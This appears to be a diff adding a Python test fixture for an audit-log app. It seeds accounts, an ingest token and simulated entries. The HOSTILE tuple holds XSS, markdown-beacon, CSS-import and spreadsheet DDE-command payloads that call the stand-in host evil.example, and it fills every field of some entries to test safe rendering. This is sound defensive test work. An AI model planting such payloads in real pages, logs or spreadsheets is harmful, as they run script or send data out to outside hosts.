@@ -1,0 +1,185 @@
+"""What the running app is given: people, a token, and entries with hostile text among them."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from datetime import datetime, timedelta
+from pathlib import Path
+from typing import Any
+from uuid import NAMESPACE_URL, uuid5
+
+from audit_core.access import Permission, Role, Scope
+from audit_core.demo import DEMO_ORGANIZATIONS, simulate
+from audit_core.entries import AuditEntry
+from audit_core.log.store import utc_now
+from audit_core.product import Product, open_product
+from audit_core.query.filters import EntryFilter
+from audit_core.query.windows import Bounds
+from audit_core.reader import Reader
+from audit_core.settings import Settings
+from audit_core.state.accounts import add_account
+from audit_core.state.memberships import ensure_organization, set_membership
+from audit_core.state.passwords import generate_password
+from audit_core.state.tokens import add_token
+
+(HOME, HOME_NAME), (OTHER, OTHER_NAME) = DEMO_ORGANIZATIONS[:2]
+ENTRIES, SEED = 3_000, 7
+
+ADMIN, AUDITOR, MEMBER = "admin@example.org", "auditor@example.org", "member@example.org"
+BOTH = "both@example.org"
+PEOPLE: dict[str, dict[str, Role]] = {
+    ADMIN: {HOME: Role.ADMIN},
+    AUDITOR: {HOME: Role.AUDITOR},
+    MEMBER: {HOME: Role.MEMBER},
+    BOTH: {HOME: Role.ADMIN, OTHER: Role.ADMIN},
+}
+
+FOREIGN_HOST = "evil.example"
+HOSTILE = (
+    f"![x](https://{FOREIGN_HOST}/md.png)",
+    f"<img src='https://{FOREIGN_HOST}/img.png' onerror=\"fetch('https://{FOREIGN_HOST}/js')\">",
+    f"<script src=https://{FOREIGN_HOST}/s.js></script>",
+    f"=cmd|' /C calc'!A0 https://{FOREIGN_HOST}/",
+    f"[link](javascript:fetch('https://{FOREIGN_HOST}'))",
+    f"</script><style>@import 'https://{FOREIGN_HOST}/c.css'</style>",
+    f"$$\\href{{https://{FOREIGN_HOST}}}{{x}}$$ :material/bolt: :red[x]",
+)
+"""Texts that load something or run when any part of the page reads them as more than text."""
+
+
+@dataclass(kw_only=True)
+class Prepared:
+    """The databases of an app that does not run yet, and what a test needs to know of them."""
+
+    folder: Path
+    began: datetime
+    """When the entries ended."""
+    token: str = ""
+    """May send entries of `HOME`."""
+    passwords: dict[str, str] = field(default_factory=dict)
+    entries: dict[str, list[AuditEntry]] = field(default_factory=dict)
+    """By organization, oldest first, as the log holds them."""
+
+    @property
+    def environment(self) -> dict[str, str]:
+        """The settings, as environment variables."""
+        return {
+            "SANDTRAIL_LOG_URL": f"duckdb:///{self.folder / 'log.duckdb'}",
+            "SANDTRAIL_STATE_URL": f"sqlite:///{self.folder / 'state.sqlite'}",
+            "SANDTRAIL_KEY_FILE": str(self.folder / "secret.key"),
+            "SANDTRAIL_DEMO": "0",
+            "SANDTRAIL_FREE_SPACE_FLOOR_MB": "0",
+        }
+
+
+def entry(name: str, created_at: datetime, **fields: Any) -> AuditEntry:
+    """An entry of `HOME` of which only some fields matter."""
+    values: dict[str, Any] = {
+        "id": str(uuid5(NAMESPACE_URL, name)),
+        "actor_id": "user-browser",
+        "actor_email": "browser@example.org",
+        "actor_api_key_prefix": None,
+        "actor_api_key_suffix": None,
+        "organization_id": HOME,
+        "action": "start",
+        "target_type": "sandbox",
+        "target_id": name,
+        "status_code": 200,
+        "error_message": None,
+        "ip_address": None,
+        "user_agent": None,
+        "source": None,
+        "metadata": None,
+        "created_at": created_at,
+    }
+    return AuditEntry(**{**values, **fields})
+
+
+def hostile(text: str, number: int, created_at: datetime) -> AuditEntry:
+    """An entry whose every text is hostile."""
+    return entry(
+        f"hostile-{number}",
+        created_at,
+        actor_id=text,
+        actor_email=text,
+        actor_api_key_prefix=text,
+        action=text,
+        target_type=text,
+        target_id=text,
+        status_code=500,
+        error_message=text,
+        ip_address=text,
+        user_agent=text,
+        source=text,
+        metadata='{"body":{"name":"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"}}',
+    )
+
+
+def prepare(folder: Path) -> Prepared:
+    """Make both databases; they are closed again when this returns."""
+    prepared = Prepared(folder=folder, began=utc_now().replace(microsecond=0))
+    product = open_product(
+        Settings(
+            log_url=prepared.environment["SANDTRAIL_LOG_URL"],
+            state_url=prepared.environment["SANDTRAIL_STATE_URL"],
+            key_file=folder / "secret.key",
+            free_space_floor_mb=0,
+        ),
+        utc_now,
+    )
+    try:
+        _add_people(product, prepared)
+        _add_entries(product, prepared)
+    finally:
+        product.close()
+    return prepared
+
+
+def _add_people(product: Product, prepared: Prepared) -> None:
+    with product.state.begin() as connection:
+        for organization_id, name in ((HOME, HOME_NAME), (OTHER, OTHER_NAME)):
+            ensure_organization(connection, organization_id=organization_id, name=name)
+        for email, roles in PEOPLE.items():
+            prepared.passwords[email] = generate_password()
+            account = add_account(
+                connection,
+                email=email,
+                name=email.partition("@")[0],
+                password=prepared.passwords[email],
+                now=prepared.began,
+                cost=4,
+            )
+            for organization_id, role in roles.items():
+                set_membership(
+                    connection,
+                    account_id=account.id,
+                    organization_id=organization_id,
+                    role=role,
+                    grants=frozenset(),
+                )
+        _, prepared.token = add_token(
+            connection,
+            organization_id=HOME,
+            name="collector",
+            verbs=frozenset({Permission.INGEST.value}),
+            now=prepared.began,
+            expires_at=None,
+        )
+
+
+def _add_entries(product: Product, prepared: Prepared) -> None:
+    arrivals = simulate(entries=ENTRIES, seed=SEED, until=prepared.began - timedelta(minutes=10))
+    product.log.append([arrival.entry for arrival in arrivals])
+    product.log.append(
+        [
+            hostile(text, number, prepared.began - timedelta(minutes=9, seconds=number))
+            for number, text in enumerate(HOSTILE)
+        ]
+    )
+    for organization_id, _ in DEMO_ORGANIZATIONS:
+        batches = Reader(product.log).export(
+            EntryFilter(),
+            Scope(organization_id=organization_id),
+            Bounds(since=None, until=None),
+        )
+        prepared.entries[organization_id] = [entry for batch in batches for entry in batch]
